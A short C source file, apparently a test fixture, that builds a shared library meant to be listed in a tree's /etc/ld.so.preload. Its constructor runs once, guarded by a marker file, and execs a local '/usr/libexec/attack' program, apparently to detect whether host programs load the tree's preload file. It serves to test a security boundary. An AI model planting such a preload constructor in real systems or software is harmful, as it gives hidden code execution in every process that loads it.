/* Named in /etc/ld.so.preload of the tree: whatever program of the host would load it, attacks. */
#include <fcntl.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

__attribute__((constructor)) static void loaded(void)
{
	int once = open("/var/tmp/attack-preload", O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0600);
	if (once < 0)
		return;
	close(once);
	pid_t child = fork();
	if (child == 0) {
		dup2(2, 1);
		execl("/usr/libexec/attack", "attack", "preload", NULL);
		_exit(1);
	}
	waitpid(child, NULL, 0);
}
